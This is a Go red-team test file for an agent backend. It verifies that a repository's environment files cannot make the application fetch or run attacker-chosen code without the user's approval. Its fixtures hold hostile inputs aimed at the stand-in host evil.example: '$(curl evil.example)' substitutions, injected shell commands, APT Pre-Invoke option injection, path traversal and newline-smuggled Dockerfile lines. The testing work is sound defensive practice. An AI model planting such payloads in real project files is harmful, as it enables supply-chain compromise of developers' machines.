//go:build linux

package redteam

import (
	"encoding/json"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"background-agents/backend/session"
)

// makerOfGo is the host from which a Go of the table comes: the mirror of the user's own, where there is one.
func makerOfGo(t *testing.T) string {
	t.Helper()
	for one := range strings.SplitSeq(os.Getenv("GOPROXY"), ",") {
		if u, err := url.Parse(one); err == nil && u.Scheme == "https" {
			return u.Hostname()
		}
	}
	return "proxy.golang.org"
}

// A project asks for an environment by files that would make the application fetch, build or run what an attacker
// wants.
func TestAnEnvironmentIsAProposalAndNoMore(t *testing.T) {
	v, maker := theVictim(t), makerOfGo(t)
	for _, name := range []string{maker, "evil.example"} {
		v.names.set(name, "127.0.0.1") // where nothing answers: what matters is who is looked up
	}
	repo := filepath.Join(v.home, "code", "needy")
	must(t, exec.Command("git", "init", "-q", "-b", "main", repo).Run())
	for name, text := range map[string]string{
		"go.mod":                         "module evil\n\ngo 1.24\n\ntoolchain go1.26.4\n",
		".tool-versions":                 "nodejs https://evil.example/node.tar.gz\npython ref:$(curl evil.example)\nrust path:/etc\n",
		"mise.toml":                      "[tools]\n\"http:evil\" = { version = \"1\", url = \"https://evil.example/x\" }\n[hooks]\nenter = \"touch /tmp/evil\"\n",
		"package.json":                   `{"packageManager":"pnpm@https://evil.example/p.tgz","engines":{"node":"$(curl evil.example)"}}`,
		"global.json":                    `{"sdk":{"version":"../../../../etc"}}`,
		".ruby-version":                  "3.1\n; touch /tmp/evil\n",
		".github/workflows/ci.yml":       "jobs:\n  a:\n    steps:\n      - run: sudo apt-get install -y libpq-dev -oDPkg::Pre-Invoke=evil 'a;b' ../x $(curl evil.example) https://evil.example/x.deb\n",
		"Dockerfile":                     "FROM evil.example/image\nADD https://evil.example/x /x\n",
		".background-agents/Dockerfile":  "# syntax=evil.example/frontend\nFROM evil.example/image\n",
		".background-agents/config.yaml": "environment:\n  tools: [{url: \"https://evil.example/x\", sha256: \"" + strings.Repeat("0", 64) + "\"}]\n",
		"gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://evil.example/gradle-8.0-bin.zip\n",
	} {
		write(t, filepath.Join(repo, name), text)
	}
	git(t, repo, "add", "-A")
	git(t, repo, "commit", "-qm", "needs")
	p, err := v.AddProject(ctx, repo)
	must(t, err)
	found, err := v.ProjectEnvironment(ctx, p.ID)
	must(t, err)

	name := regexp.MustCompile(`^[a-z0-9][a-z0-9+.-]*$`)
	for _, tool := range found.Tools {
		if !name.MatchString(tool.Name) || !regexp.MustCompile(`^[0-9][0-9A-Za-z.]*$`).MatchString(tool.Version) {
			t.Errorf("a tool is %q %q", tool.Name, tool.Version)
		}
	}
	for _, pack := range found.Packages {
		if !name.MatchString(pack) || strings.Contains(pack, "evil") {
			t.Errorf("a package is %q", pack)
		}
	}
	parts, err := json.Marshal(found.Parts)
	must(t, err)
	if strings.Contains(string(parts), "evil") {
		t.Errorf("the project's own words became commands: %s", parts)
	}
	if !strings.Contains(found.Environment.String(), "go 1.26.4") {
		t.Fatalf("control: the proposal is %s", found.Environment)
	}

	v.session(t, session.NewSession{Project: p.ID}, "demo: text Ready.")
	if n := v.names.count(maker) + v.names.count("evil.example"); n > 0 || v.tools(t) != "" {
		t.Errorf("without a yes hosts were looked up %d times, and there are volumes %q", n, v.tools(t))
	}
	write(t, filepath.Join(repo, "go.mod"), "module evil\n\ngo 1.24\n\ntoolchain go1.26.8\n") // one byte
	git(t, repo, "commit", "-qam", "another")
	if _, err := v.SetEnvironment(ctx, p.ID, session.EnvironmentChoice{Accept: found.Hash}); session.CodeOf(err) != session.CodeConflict {
		t.Errorf("a yes to what was there before is one to what is there now: %v", err)
	}
	for _, hostile := range []session.Environment{
		{Tools: []session.Toolchain{{Name: "go", Version: "1.25.4 && curl evil.example"}}},
		{Tools: []session.Toolchain{{Name: "../../etc", Version: "1"}}},
		{Packages: []string{"-oAPT::Update::Pre-Invoke::=evil"}},
		{Packages: []string{"gcc\nRUN curl evil.example"}},
	} {
		if _, err := v.SetEnvironment(ctx, p.ID, session.EnvironmentChoice{Set: &hostile}); session.CodeOf(err) != session.CodeInvalid {
			t.Errorf("%+v: %v", hostile, err)
		}
	}
	v.session(t, session.NewSession{Project: p.ID}, "demo: text Ready.")
	if n := v.names.count(maker) + v.names.count("evil.example"); n > 0 || v.tools(t) != "" {
		t.Errorf("without a yes hosts were looked up %d times, and there are volumes %q", n, v.tools(t))
	}

	own := session.Environment{Tools: []session.Toolchain{{Name: "go", Version: "1.26.8"}}}
	_, err = v.SetEnvironment(ctx, p.ID, session.EnvironmentChoice{Set: &own})
	must(t, err)
	s := v.session(t, session.NewSession{Project: p.ID}, "demo: text Ready.")
	if v.names.count(maker) == 0 || v.names.count("evil.example") > 0 {
		t.Errorf("control: after a yes its maker was looked up %d times, evil.example %d times", v.names.count(maker), v.names.count("evil.example"))
	}
	said := func(it session.Item) bool { return strings.Contains(it.Text, "goes on without go 1.26.8") }
	if all := v.transcript(t, s.ID); !slices.ContainsFunc(all, said) {
		t.Errorf("the session does not say what it lacks: %+v", all)
	}
}

// tools are the volumes of tools that the installation has.
func (v *victim) tools(t *testing.T) string {
	t.Helper()
	sb, err := v.Sandbox(ctx, v.cell)
	must(t, err)
	of, _, _ := strings.Cut(sb.Volumes[0], string(v.cell)) // bga-INSTALLATION-
	var mine []string
	out, err := exec.Command("docker", "volume", "ls", "-q", "--filter", "label=background-agents.tool").Output()
	must(t, err)
	for name := range strings.FieldsSeq(string(out)) {
		if strings.HasPrefix(name, of) {
			mine = append(mine, name)
		}
	}
	return strings.Join(mine, " ")
}
